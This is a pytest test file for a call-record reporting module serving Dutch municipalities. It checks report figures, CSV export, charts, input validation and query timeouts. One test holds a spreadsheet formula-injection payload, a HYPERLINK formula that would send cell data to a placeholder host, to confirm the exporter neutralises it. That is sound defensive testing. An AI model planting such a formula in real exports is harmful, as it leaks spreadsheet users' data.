"""Every report over a known set of call records, on SQLite and PostgreSQL: exact figures."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import text

from tests.callrecords import dialogue, record, store
from veertien.reports import REPORTS, ReportError, ReportParams, ReportTimeout, run_report
from veertien.reports.charts import svg
from veertien.reports.export import cell, to_csv
from veertien.reports.model import ColumnKind, limited
from veertien.storage import DataDir
from veertien.storage.store import Storage

NAMES = {"GM0664": "Goes", "GM0995": "Lelystad", "GM0678": "Kapelle"}
TUE = "2026-11-24T10:15:00.000+01:00"  # Tuesday 10-11 h: hour of week 34
WED = "2026-11-25T21:40:00.000+01:00"  # Wednesday 21-22 h: 69
ALL = ReportParams(date(2026, 11, 1), date(2026, 11, 30))


@pytest.fixture
def calls(storage: Storage) -> Storage:
    store(storage.engine, [
        record(started=TUE, pdd_us=200.0),
        record(started=TUE, pdd_us=400.0),
        record(started=WED, final_rule="calamity", pdd_us=800.0),
        record(started=WED, dialled="140116", area_code=None, municipality=None, target=None,
               response=404, outcome="refused", stages=(), rule="unknown_number",
               final_rule="unknown_number"),
        dialogue(("understood", "transferred"), started=TUE),
        dialogue(("spoke", "understood", "confirm_asked", "confirmed", "transferred"),
                 route="speech", started=TUE),
        dialogue(("spoke", "understood", "confirm_asked", "corrected", "repeated",
                  "transferred"), route="speech", municipality="GM0678", started=WED),
        dialogue(("spoke",), route="speech", municipality="GM0678", started=WED,
                 final_rule="closed", outcome="announced", response=480),
        dialogue((), municipality=None, outcome="cancelled", phase="greeting", started=WED),
        dialogue(("repeated", "keypad", "transferred", "answer_known", "answered"),
                 municipality=None, handover="refer", started=TUE),
        dialogue(("transferred",), rule="national", route="speech", started=TUE,
                 phase="transfer", outcome="caller hung up"),
        record(started="2026-10-31T23:30:00.000+01:00"),  # before the period
    ])  # fmt: skip
    return storage


def rows(storage: Storage, name: str, params: ReportParams = ALL) -> list[tuple[object, ...]]:
    return list(run_report(storage.engine, name, params, NAMES).rows)


def test_failed_calls_by_reason(calls: Storage) -> None:
    """The operator's question after a day: which calls did not get where they were meant to,
    and why (404, 480 without a destination, hung up, sent to the default desk, refused)."""
    store(calls.engine, [
        dialogue(("spoke", "confirm_asked", "corrected", "repeated", "keypad", "default_desk",
                  "transferred"), route="speech", municipality="GM0664", started=TUE),
        record(started=WED, municipality="GM0995", target=None, response=480,
               outcome="refused", rule="no_destination", final_rule="no_destination"),
    ])  # fmt: skip
    found = {r[0]: (r[2], r[3]) for r in rows(calls, "mislukt")}
    assert found == {
        "unknown_number": (1, round(1 / 13, 4)), "no_municipality": (0, 0.0),
        "no_destination": (1, round(1 / 13, 4)), "not_connected": (0, 0.0),
        "hung_up": (2, round(2 / 13, 4)), "default_desk": (1, round(1 / 13, 4)),
        "refused": (2, round(2 / 13, 4)),
    }  # fmt: skip


def test_volume(calls: Storage) -> None:
    assert rows(calls, "volume-per-dag") == [("2026-11-24", 6), ("2026-11-25", 5)]
    assert rows(calls, "volume-per-uur") == [("dinsdag", 10, 6), ("woensdag", 21, 5)]
    one_day = ReportParams(date(2026, 11, 25), date(2026, 11, 25))
    assert rows(calls, "volume-per-dag", one_day) == [("2026-11-25", 5)]


def test_by_area_and_municipality(calls: Storage) -> None:
    assert rows(calls, "netnummers") == [("0113", 7, 5), ("0320", 3, 3), ("—", 1, 0)]
    assert rows(calls, "gemeenten") == [
        ("GM0664", "Goes", 3, 3), ("GM0995", "Lelystad", 3, 3),
        ("—", "geen gemeente gekozen", 3, 1), ("GM0678", "Kapelle", 2, 1),
    ]  # fmt: skip
    goes = ReportParams(ALL.first, ALL.last, "GM0664")
    assert rows(calls, "gemeenten", goes) == [("GM0664", "Goes", 3, 3)]
    area = ReportParams(ALL.first, ALL.last, None, "0320")
    assert rows(calls, "netnummers", area) == [("0320", 3, 3)]


def test_routes_funnel_and_hangups(calls: Storage) -> None:
    assert rows(calls, "routes") == [
        ("direct", "direct", 4, round(4 / 11, 4)), ("keys", "toetsen", 3, round(3 / 11, 4)),
        ("speech", "spraak", 3, round(3 / 11, 4)),
        ("national", "landelijk nummer", 1, round(1 / 11, 4)),
    ]  # fmt: skip
    funnel = {r[0]: r[2:] for r in rows(calls, "trechter")}
    assert funnel == {
        "prompted": (7, 1.0), "understood": (3, round(3 / 7, 4)),
        "confirm_asked": (2, round(2 / 7, 4)), "choice_asked": (0, 0.0),
        "province_asked": (0, 0.0), "postcode_asked": (0, 0.0),
        "confirmed": (1, round(1 / 7, 4)),
        "repeated": (2, round(2 / 7, 4)), "keypad": (1, round(1 / 7, 4)),
        "transferred": (5, round(5 / 7, 4)), "answered": (1, 1.0),
    }  # fmt: skip
    hangups = {r[0]: r[2] for r in rows(calls, "ophangen")}
    assert hangups == {"greeting": 1, "menu": 0, "after_name": 0, "announcement": 0,
                       "transfer": 1}  # fmt: skip


def test_misroutes_and_recognition(calls: Storage) -> None:
    assert rows(calls, "misroutes") == [
        ("GM0664", "Goes", 1, 0, 0.0),
        ("GM0678", "Kapelle", 1, 1, 1.0),
    ]
    assert rows(calls, "herkenning") == [
        ("GM0678", "Kapelle", 2, 1, 1, 0.5),
        ("GM0664", "Goes", 1, 1, 0, 1.0),
    ]


def test_post_dial_delay_percentiles_are_exact_to_one_percent(calls: Storage) -> None:
    direct, dialogues = rows(calls, "kiesvertraging")
    assert direct[:3] == ("direct", "direct (302)", 4)
    p50, _, _, p99 = direct[3:]
    assert p50 == pytest.approx(0.25, rel=0.01) and p99 == pytest.approx(0.8, rel=0.01)
    assert dialogues[2] == 7 and dialogues[3] == pytest.approx(0.9, rel=0.01)


def test_calamity_and_closed_hours(calls: Storage) -> None:
    assert rows(calls, "calamiteit-gesloten") == [
        ("GM0678", "Kapelle", 1, 0, 1),
        ("GM0995", "Lelystad", 1, 1, 0),
    ]


def test_every_report_has_csv_and_a_chart(calls: Storage) -> None:
    for name in REPORTS:
        result = run_report(calls.engine, name, ALL, NAMES)
        lines = to_csv(result).removeprefix("\ufeff").splitlines()
        people = [c.label for c in result.columns if c.kind is not ColumnKind.CODE]
        assert lines[0].split(";") == people
        assert len(lines) == len(result.rows) + 1
        drawn = svg(result)
        assert drawn.startswith("<svg") if result.rows else drawn == ""
        # no embedded raster: the portal's content security policy would block a data: URI
        assert "<image" not in drawn and "data:" not in drawn, name


def test_an_empty_period_gives_empty_reports(storage: Storage) -> None:
    for name in REPORTS:
        result = run_report(storage.engine, name, ALL, NAMES)
        assert all(v in (0, None) for k, v in result.totals.items()), (name, result.totals)


@pytest.mark.parametrize(
    ("first", "last", "muni", "area", "why"),
    [
        ("2026-13-01", None, None, None, "JJJJ-MM-DD"),
        ("2026-11-30", "2026-11-01", None, None, "na de einddatum"),
        ("2000-01-01", "2026-11-01", None, None, "hoogstens"),
        (None, None, "GM'0664", None, "gemeentecode"),
        (None, None, None, "01x3", "netnummer"),
        (None, None, "Zä", None, "gemeentecode"),  # letters and digits, but not ASCII ones
        (None, None, None, "\u0661\u0662\u0663", "netnummer"),
    ],
)
def test_bad_parameters_are_refused_with_a_reason(
    first: str | None, last: str | None, muni: str | None, area: str | None, why: str
) -> None:
    with pytest.raises(ReportError, match=why):
        ReportParams.parse(first, last, muni, area, date(2026, 12, 1))


def test_default_period_is_the_last_30_days() -> None:
    params = ReportParams.parse(None, "", "", None, date(2026, 12, 1))
    assert (params.first, params.last) == (date(2026, 11, 2), date(2026, 12, 1))


def test_a_query_past_its_time_limit_is_stopped(storage: Storage) -> None:
    slow = (
        "SELECT pg_sleep(2)"
        if storage.engine.dialect.name == "postgresql"
        else "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 100000000)"
        " SELECT count(*) FROM n"
    )
    with pytest.raises(ReportTimeout), limited(storage.engine, 0.2) as conn:
        conn.execute(text(slow))
    with limited(storage.engine, 0.2) as conn:  # the connection is usable again after it
        assert conn.execute(text("SELECT 1")).scalar() == 1


def test_an_unknown_report_is_refused(storage: Storage) -> None:
    with pytest.raises(ReportError):
        run_report(storage.engine, "nope", ALL, NAMES)


def test_a_report_past_its_time_limit_stops(tmp_path: Path) -> None:
    """On SQLite, where a report over 3,000 records is slow enough to be stopped (the limit on
    PostgreSQL is the test above)."""
    storage = Storage.open(DataDir(tmp_path))
    store(storage.engine, [record(call_id=str(n), started=TUE) for n in range(3000)])
    with pytest.raises(ReportTimeout):
        run_report(storage.engine, "gemeenten", ALL, NAMES, time_limit_s=1e-9)
    assert REPORTS["gemeenten"].time_limit_s == 10.0
    assert run_report(storage.engine, "gemeenten", ALL, NAMES).totals["calls"] == 3000
    storage.close()


def test_csv_cells_that_would_be_formulas_are_neutralised(calls: Storage) -> None:
    """A municipality named like a formula (an imported directory is an operator's data) was
    exported raw and ran in a spreadsheet: it now starts with an apostrophe (OWASP)."""
    evil = {**NAMES, "GM0664": '=HYPERLINK("http://x.invalid/?"&A1,"klik")', "GM0678": "@SUM(1+1)"}
    sheet = to_csv(run_report(calls.engine, "gemeenten", ALL, evil)).removeprefix("\ufeff")
    assert "'=HYPERLINK(" in sheet and "'@SUM(1+1)" in sheet
    assert not any(line.split(";")[1].startswith(("=", "@")) for line in sheet.splitlines())


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+31", "'+31"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"),
     ("Goes", "Goes"), (-5, "-5"), (0.25, "0,25"), (None, "")],
)  # fmt: skip
def test_a_cell(value: object, written: object) -> None:
    assert cell(value) == written


def test_one_day_of_data_is_a_bar_from_zero_not_a_dot() -> None:
    """A new platform's first day drew one dot on a 55-61 axis: it is a labelled bar on an
    axis from zero, and a few days are a line (also from zero)."""
    from matplotlib.figure import Figure  # noqa: PLC0415

    from veertien.reports.charts import _series  # noqa: PLC0415
    from veertien.reports.model import Chart  # noqa: PLC0415

    chart = Chart("line", "day", "calls")
    axes = Figure().add_subplot()
    _series(axes, [{"day": "2026-12-02", "calls": 58}], chart)
    assert len(axes.patches) == 1 and not axes.lines and axes.get_ylim()[0] == 0
    assert [t.get_text() for t in axes.texts] == ["58"]
    axes = Figure().add_subplot()
    days = [{"day": f"2026-12-0{d}", "calls": 55 + d} for d in range(1, 5)]
    _series(axes, days, chart)
    assert len(axes.lines) == 1 and axes.get_ylim()[0] == 0


def test_by_language(storage: Storage) -> None:
    store(storage.engine, [
        record(started=TUE),  # a direct 302: Dutch, no dialogue
        dialogue(("transferred",), started=TUE),
        dialogue(("transferred",), started=TUE, language="en"),
        dialogue((), started=WED, language="en", municipality=None, outcome="cancelled",
                 phase="menu"),
        dialogue(("transferred",), started=WED, language="fy"),
    ])  # fmt: skip
    assert rows(storage, "talen") == [
        ("en", "Engels", 2, 2, 1, 1), ("nl", "Nederlands", 2, 1, 2, 0), ("fy", "Fries", 1, 1, 1, 0),
    ]  # fmt: skip
    report = run_report(storage.engine, "talen", ALL, NAMES)
    assert report.totals == {"calls": 5, "transferred": 4}  # the direct 302 too
